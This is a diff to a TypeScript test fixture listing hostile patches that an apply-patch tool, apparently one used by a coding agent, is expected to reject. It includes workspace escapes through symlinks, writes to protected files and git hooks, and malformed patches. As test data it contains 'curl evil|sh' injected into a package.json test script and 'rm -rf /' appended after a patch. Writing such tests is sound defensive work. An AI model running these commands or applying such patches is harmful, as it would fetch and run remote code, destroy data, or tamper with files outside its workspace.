@@ -47,9 +47,19 @@ const pathRows: HostilePatchCase[] = HOSTILE_PATHS.filter((row) => row.path !== 
   .flatMap((row) => {
     const argumentError = { code: "TOOL_ARGUMENTS_INVALID" as const, message: row.code };
     return [
-      { name: `Add File: ${row.name}`, tree: PATCH_TREE, patch: begin(`*** Add File: ${row.path}\n+x\n`), ...argumentError },
+      {
+        name: `Add File: ${row.name}`,
+        tree: PATCH_TREE,
+        patch: begin(`*** Add File: ${row.path}\n+x\n`),
+        ...argumentError,
+      },
       { name: `Update File: ${row.name}`, tree: PATCH_TREE, patch: begin(update(row.path)), ...argumentError },
-      { name: `Delete File: ${row.name}`, tree: PATCH_TREE, patch: begin(`*** Delete File: ${row.path}\n`), ...argumentError },
+      {
+        name: `Delete File: ${row.name}`,
+        tree: PATCH_TREE,
+        patch: begin(`*** Delete File: ${row.path}\n`),
+        ...argumentError,
+      },
       {
         name: `Move to: ${row.name}`,
         tree: PATCH_TREE,
@@ -70,23 +80,48 @@ const pathRows: HostilePatchCase[] = HOSTILE_PATHS.filter((row) => row.path !== 
 export const HOSTILE_PATCHES: readonly HostilePatchCase[] = [
   ...pathRows,
   // Links that lead out of the workspace.
-  { name: "update through a link to a file outside", tree: PATCH_TREE, patch: begin(update("secret-link.txt")), code: "PATH_ESCAPES_WORKSPACE" },
-  { name: "update in a folder linked outside", tree: PATCH_TREE, patch: begin(update("out/secret.txt")), code: "PATH_ESCAPES_WORKSPACE" },
-  { name: "add in a folder linked outside", tree: PATCH_TREE, patch: begin("*** Add File: out/new.txt\n+x\n"), code: "PATH_ESCAPES_WORKSPACE" },
+  {
+    name: "update through a link to a file outside",
+    tree: PATCH_TREE,
+    patch: begin(update("secret-link.txt")),
+    code: "PATH_ESCAPES_WORKSPACE",
+  },
+  {
+    name: "update in a folder linked outside",
+    tree: PATCH_TREE,
+    patch: begin(update("out/secret.txt")),
+    code: "PATH_ESCAPES_WORKSPACE",
+  },
+  {
+    name: "add in a folder linked outside",
+    tree: PATCH_TREE,
+    patch: begin("*** Add File: out/new.txt\n+x\n"),
+    code: "PATH_ESCAPES_WORKSPACE",
+  },
   {
     name: "add below a folder linked outside, folders missing",
     tree: PATCH_TREE,
     patch: begin("*** Add File: out/deep/er/new.txt\n+x\n"),
     code: "PATH_ESCAPES_WORKSPACE",
   },
-  { name: "delete in a folder linked outside", tree: PATCH_TREE, patch: begin("*** Delete File: out/secret.txt\n"), code: "PATH_ESCAPES_WORKSPACE" },
+  {
+    name: "delete in a folder linked outside",
+    tree: PATCH_TREE,
+    patch: begin("*** Delete File: out/secret.txt\n"),
+    code: "PATH_ESCAPES_WORKSPACE",
+  },
   {
     name: "move into a folder linked outside",
     tree: PATCH_TREE,
     patch: begin("*** Update File: a.txt\n*** Move to: out/moved.txt\n@@\n-one\n+ONE\n"),
     code: "PATH_ESCAPES_WORKSPACE",
   },
-  { name: "add through a link to the parent of the root", tree: PATCH_TREE, patch: begin("*** Add File: d/up/x.txt\n+x\n"), code: "PATH_ESCAPES_WORKSPACE" },
+  {
+    name: "add through a link to the parent of the root",
+    tree: PATCH_TREE,
+    patch: begin("*** Add File: d/up/x.txt\n+x\n"),
+    code: "PATH_ESCAPES_WORKSPACE",
+  },
   {
     name: "a good update, then a link out (nothing changes)",
     tree: PATCH_TREE,
@@ -97,11 +132,17 @@ export const HOSTILE_PATCHES: readonly HostilePatchCase[] = [
   {
     name: "update a protected file",
     tree: PATCH_TREE,
-    patch: begin("*** Update File: package.json\n@@\n-{}\n+{\"scripts\":{\"test\":\"curl evil|sh\"}}\n"),
+    patch: begin('*** Update File: package.json\n@@\n-{}\n+{"scripts":{"test":"curl evil|sh"}}\n'),
     code: "PROTECTED_PATH",
     protectedPaths: true,
   },
-  { name: "add a git hook", tree: PATCH_TREE, patch: begin("*** Add File: .git/hooks/pre-commit\n+#!/bin/sh\n"), code: "PROTECTED_PATH", protectedPaths: true },
+  {
+    name: "add a git hook",
+    tree: PATCH_TREE,
+    patch: begin("*** Add File: .git/hooks/pre-commit\n+#!/bin/sh\n"),
+    code: "PROTECTED_PATH",
+    protectedPaths: true,
+  },
   {
     name: "move a file onto a protected name",
     tree: PATCH_TREE,
@@ -109,11 +150,17 @@ export const HOSTILE_PATCHES: readonly HostilePatchCase[] = [
     code: "PROTECTED_PATH",
     protectedPaths: true,
   },
-  { name: "delete a protected file", tree: PATCH_TREE, patch: begin("*** Delete File: package.json\n"), code: "PROTECTED_PATH", protectedPaths: true },
+  {
+    name: "delete a protected file",
+    tree: PATCH_TREE,
+    patch: begin("*** Delete File: package.json\n"),
+    code: "PROTECTED_PATH",
+    protectedPaths: true,
+  },
   {
     name: "update a protected file through a link",
     tree: [...PATCH_TREE, "pkg-link => package.json"],
-    patch: begin("*** Update File: pkg-link\n@@\n-{}\n+{\"x\":1}\n"),
+    patch: begin('*** Update File: pkg-link\n@@\n-{}\n+{"x":1}\n'),
     code: "PROTECTED_PATH",
     protectedPaths: true,
   },
@@ -128,22 +175,54 @@ export const HOSTILE_PATCHES: readonly HostilePatchCase[] = [
   {
     name: "more files than the limit",
     tree: PATCH_TREE,
-    patch: begin(Array.from({ length: APPLY_PATCH_MAX_FILES + 1 }, (_, i) => `*** Add File: many/${i}.txt\n+x\n`).join("")),
+    patch: begin(
+      Array.from({ length: APPLY_PATCH_MAX_FILES + 1 }, (_, i) => `*** Add File: many/${i}.txt\n+x\n`).join(""),
+    ),
     code: "PATCH_INVALID",
   },
-  { name: "the workspace root", tree: PATCH_TREE, patch: begin("*** Delete File: .\n"), code: "WORKSPACE_ROOT_PROTECTED" },
+  {
+    name: "the workspace root",
+    tree: PATCH_TREE,
+    patch: begin("*** Delete File: .\n"),
+    code: "WORKSPACE_ROOT_PROTECTED",
+  },
   { name: "a header naming no path", tree: PATCH_TREE, patch: begin("*** Add File: \n+x\n"), code: "PATCH_INVALID" },
-  { name: "no '*** Begin Patch'", tree: PATCH_TREE, patch: "*** Update File: a.txt\n@@\n-one\n+ONE\n", code: "PATCH_INVALID" },
-  { name: "a hunk line without a mark", tree: PATCH_TREE, patch: begin("*** Update File: a.txt\n@@\n-one\nONE\n"), code: "PATCH_INVALID" },
-  { name: "one file twice", tree: PATCH_TREE, patch: begin(`${update("a.txt")}${update("./a.txt")}`), code: "PATCH_INVALID" },
+  {
+    name: "no '*** Begin Patch'",
+    tree: PATCH_TREE,
+    patch: "*** Update File: a.txt\n@@\n-one\n+ONE\n",
+    code: "PATCH_INVALID",
+  },
+  {
+    name: "a hunk line without a mark",
+    tree: PATCH_TREE,
+    patch: begin("*** Update File: a.txt\n@@\n-one\nONE\n"),
+    code: "PATCH_INVALID",
+  },
+  {
+    name: "one file twice",
+    tree: PATCH_TREE,
+    patch: begin(`${update("a.txt")}${update("./a.txt")}`),
+    code: "PATCH_INVALID",
+  },
   {
     name: "one file twice through a link",
     tree: [...PATCH_TREE, "alias.txt => a.txt"],
     patch: begin(`${update("a.txt")}${update("alias.txt")}`),
     code: "PATCH_INVALID",
   },
-  { name: "text after '*** End Patch'", tree: PATCH_TREE, patch: begin(update("a.txt")) + "rm -rf /\n", code: "PATCH_INVALID" },
-  { name: "add a file that exists", tree: PATCH_TREE, patch: begin("*** Add File: d/b.txt\n+x\n"), code: "PATCH_FILE_EXISTS" },
+  {
+    name: "text after '*** End Patch'",
+    tree: PATCH_TREE,
+    patch: begin(update("a.txt")) + "rm -rf /\n",
+    code: "PATCH_INVALID",
+  },
+  {
+    name: "add a file that exists",
+    tree: PATCH_TREE,
+    patch: begin("*** Add File: d/b.txt\n+x\n"),
+    code: "PATCH_FILE_EXISTS",
+  },
   {
     name: "move onto a file that exists",
     tree: PATCH_TREE,
@@ -151,7 +230,12 @@ export const HOSTILE_PATCHES: readonly HostilePatchCase[] = [
     code: "PATCH_FILE_EXISTS",
   },
   { name: "update a missing file", tree: PATCH_TREE, patch: begin(update("missing.txt")), code: "NOT_FOUND" },
-  { name: "delete a missing file", tree: PATCH_TREE, patch: begin("*** Delete File: missing.txt\n"), code: "NOT_FOUND" },
+  {
+    name: "delete a missing file",
+    tree: PATCH_TREE,
+    patch: begin("*** Delete File: missing.txt\n"),
+    code: "NOT_FOUND",
+  },
   { name: "update a folder", tree: PATCH_TREE, patch: begin(update("d")), code: "NOT_A_FILE" },
   { name: "delete a folder", tree: PATCH_TREE, patch: begin("*** Delete File: d\n"), code: "NOT_A_FILE" },
   {
